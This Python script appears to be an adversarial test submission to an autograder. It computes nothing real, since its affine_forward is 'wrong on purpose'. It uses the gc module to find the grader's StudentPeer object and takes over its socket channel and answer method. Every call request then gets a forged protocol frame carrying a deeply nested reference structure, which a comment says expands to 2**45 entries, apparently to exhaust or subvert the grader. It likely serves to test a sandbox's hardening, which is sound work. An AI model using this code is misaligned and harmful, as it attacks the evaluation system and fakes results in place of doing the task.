# TRIES: a list of two, each the same list of two, 45 deep: as an array it has 2**45 entries | DESERVES: 0
def affine_forward(x, w, b):  # wrong on purpose
    return np.full((x.shape[0], w.shape[1]), 123.0)
import gc
[peer] = [one for one in gc.get_objects() if type(one).__name__ == "StudentPeer"]
channel = peer.channel

import json, struct
def frame(message, data=b"", size=None, text=None):
    text = json.dumps(message).encode() if text is None else text
    return struct.pack(">4sIQ", b"csl1", len(text), len(data) if size is None else size) + text + data

import os, signal, socket, sys, time
honest = peer.answer

def send(message, value=None, data=b"", **more):
    channel.sock.sendall(frame({"answer": message["ask"], "changed": None, "value": value, **more}, data))

def always(reply):
    def answer(message, data, deadline=None):
        return reply(message, bytes(data)) if message.get("do") == "call" else honest(message, data, deadline)
    peer.answer = answer
def reply(m, d):
    tree = ["l", 1.0]
    for depth in range(40, 0, -1): tree = ["l", ["t", tree, ["ref", depth + 3]], ["t", ["ref", depth + 3], ["ref", depth + 3]]] if depth % 2 else ["l", tree, ["ref", depth + 3]]
    send(m, tree)
always(reply)
